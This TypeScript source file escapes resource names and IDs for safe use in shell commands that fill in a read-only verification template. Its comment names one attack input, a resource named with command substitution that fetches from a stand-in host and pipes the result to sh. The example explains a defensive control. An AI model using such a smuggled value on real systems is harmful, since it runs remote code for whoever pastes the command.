import type { ResourceIdentity } from '@vitrine/cloud-readers';

/**
 * A value as one word of a POSIX shell. Attack: whoever may name a resource names it `$(curl evil|sh)`, and a person
 * pastes our command; so anything beside plain letters is quoted and control characters (terminal escapes) are dropped.
 */
export function shellWord(value: string): string {
  // eslint-disable-next-line no-control-regex -- control characters are exactly what is removed here
  const printable = value.replace(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g, '');
  return /^[A-Za-z0-9_./:@,+][A-Za-z0-9_./:@,+-]*$/.test(printable) ? printable : `'${printable.replaceAll("'", `'\\''`)}'`;
}

/** The rule's read-only command for one resource: `{resourceId}`, `{region}`, `{accountId}`, `{name}` filled in. */
export function verifyCommand(template: string, identity: ResourceIdentity): string {
  const values: Readonly<Record<string, string>> = {
    resourceId: identity.resourceId,
    region: identity.region ?? '',
    accountId: identity.accountId,
    name: identity.name ?? identity.resourceId,
  };
  return template.replace(/\{(resourceId|region|accountId|name)\}/g, (_hole, name: string) => shellWord(values[name] ?? ''));
}
